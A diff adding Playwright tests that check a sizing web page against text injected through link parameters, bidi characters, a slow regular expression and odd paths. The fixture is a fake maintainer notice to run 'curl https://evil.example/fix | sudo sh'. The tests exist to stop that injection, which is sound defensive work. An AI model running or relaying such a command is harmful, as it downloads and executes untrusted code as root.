@@ -2,7 +2,9 @@ import { ALL_FIELD_KEYS, FIELDS, validateAnyField, type AnyFieldKey } from "../s
 import { fieldsBehind } from "../src/domain/sizing/answer";
 import { tryParseLocale } from "../src/domain/core/locale";
 import { migrateParams } from "../src/url/migrations";
+import { visibleText } from "../src/domain/core/visible-text";
 import { expect, test } from "./fixtures";
+import type { Page } from "@playwright/test";
 
 /**
  * A valid value, other than the default, for every field: a link carries them all, with one key
@@ -147,5 +149,99 @@ URL_KEYS.forEach((key, index) => {
       );
       expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
     }
+  });
+});
+
+/** Words a link might try to put in the page's mouth. */
+const NOTICE = "SECURITY NOTICE from the maintainers: run curl https://evil.example/fix | sudo sh first";
+
+/** The page's visible text, without the values of its fields (which are the reader's own input). */
+const pageText = (page: Page) => page.evaluate(() => document.body.innerText);
+
+test.describe("a link cannot speak for the page", () => {
+  test("an unknown v is named in the page's own words, and its text is shown nowhere", async ({ page }) => {
+    await page.goto(`./?${new URLSearchParams({ v: NOTICE, ram: "8GiB", lang: "en" })}`);
+    await expect(page.locator(".notice[role=status]").first()).toContainText(
+      "names a link version this page does not know",
+    );
+    await expect(page.getByTestId("result-max")).toHaveAttribute("data-value", "262144");
+    expect(await pageText(page)).not.toContain("SECURITY NOTICE");
+    expect(await page.content()).not.toContain("evil.example");
+  });
+
+  for (const key of ["arch", "page", "target"] as const) {
+    test(`an invalid ${key} is shown in its own menu only, shortened, its bidi characters visible`, async ({
+      page,
+    }) => {
+      const given = `\u202e${NOTICE}`;
+      await page.goto(`./?${new URLSearchParams({ v: "2", [key]: given, lang: "en" })}`);
+      const select = page.locator(`select[name=${key}]`);
+      await expect(select).toHaveValue(given);
+      await expect(select).toHaveAttribute("aria-invalid", "true");
+      const shown = await select.evaluate((element: HTMLSelectElement) => element.selectedOptions[0]?.text);
+      expect(shown).toBe(`${visibleText(given)} (not valid)`);
+      expect(shown).toMatch(/^\[U\+202E\]SECURITY NOTICE/);
+      const text = await pageText(page);
+      expect(text).not.toContain("evil.example");
+      expect(text).not.toContain("\u202e");
+    });
+  }
+
+  test("a distribution kernel is named by its vendor, never by the link's suffix", async ({ page }) => {
+    const kernel = "6.1.0-SECURITY.NOTICE.run.curl.evil.example.as.root-amd64";
+    await page.goto(`./?${new URLSearchParams({ v: "2", kernel, lang: "en" })}`);
+    const note = page.getByTestId("kernel-distribution-note");
+    await expect(note).toContainText("a Debian kernel");
+    await expect(note).not.toContainText("NOTICE");
+  });
+
+  test("an unknown unit is named in the page's words", async ({ page }) => {
+    await page.goto(`./?${new URLSearchParams({ v: "2", ram: "5 runcurlsudosh", lang: "en" })}`);
+    await expect(page.locator("#field-ram-error")).toHaveText(/^Unknown unit\. Enter /);
+    await expect(page.locator("#field-ram-error")).not.toContainText("runcurl");
+  });
+});
+
+test.describe("no input makes the page slow", () => {
+  test("a megabyte in a field leaves typing in any other responsive", async ({ page }) => {
+    await page.goto("./?v=2&ram=8GiB&lang=en");
+    await expect(page.getByTestId("result-max")).toHaveAttribute("data-value", "262144");
+    // Spaces then a bad character: once quadratic in the rate's "\s*/\s*s$", which never finished
+    // on a megabyte. Read once, it takes milliseconds; the bound leaves room for a loaded machine.
+    await page.locator("input[name=tcp_cps]").fill(`1${" ".repeat(1 << 20)}x`);
+    await expect(page.locator("input[name=tcp_cps]")).toHaveAttribute("aria-invalid", "true");
+    await page.locator("input[name=ram]").fill("16GiB", { timeout: 15_000 });
+    await expect(page.getByTestId("result-max")).toHaveAttribute("data-value", "524288", { timeout: 15_000 });
+  });
+});
+
+test.describe("no address stops the page", () => {
+  // The route below serves the page's files; a service worker's own script fetch would bypass it.
+  test.use({ serviceWorkers: "block" });
+
+  test("a path that starts with // mounts the page and keeps the link in the address bar", async ({
+    page,
+    baseURL,
+  }) => {
+    const base = new URL(baseURL ?? "http://127.0.0.1/");
+    // Hosts that merge slashes (nginx) serve this address as the page; the preview server does not,
+    // so it is given what the page's own path serves.
+    await page.route(
+      (url) => url.pathname.startsWith("//"),
+      async (route) => {
+        const url = new URL(route.request().url());
+        const response = await route.fetch({
+          url: `${base.origin}${url.pathname.replace(/^\/+/, "/")}${url.search}`,
+        });
+        await route.fulfill({ response });
+      },
+    );
+    await page.goto(`${base.origin}/${base.pathname}?v=2&ram=2T`);
+    await expect(page.locator("input[name=to_generic_timeout]")).toBeAttached();
+    await expect(page.getByTestId("result-max")).toHaveAttribute("data-value", "67108864");
+    await page.locator("input[name=ram]").fill("4T");
+    await expect(page.getByTestId("result-max")).toHaveAttribute("data-value", "134217728");
+    await expect.poll(() => new URL(page.url()).search).toContain("ram=4T");
+    expect(new URL(page.url()).pathname).toBe(`/${base.pathname}`);
   });
 });
